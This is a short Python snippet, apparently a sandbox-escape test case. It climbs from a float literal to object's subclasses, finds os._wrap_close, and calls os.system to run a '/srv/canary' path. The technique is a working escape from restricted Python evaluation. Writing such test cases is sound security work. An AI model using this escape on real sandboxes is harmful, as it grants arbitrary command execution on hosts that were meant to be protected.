# reaches: an attribute of a number literal
for c in 1.5.__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("/srv/canary")
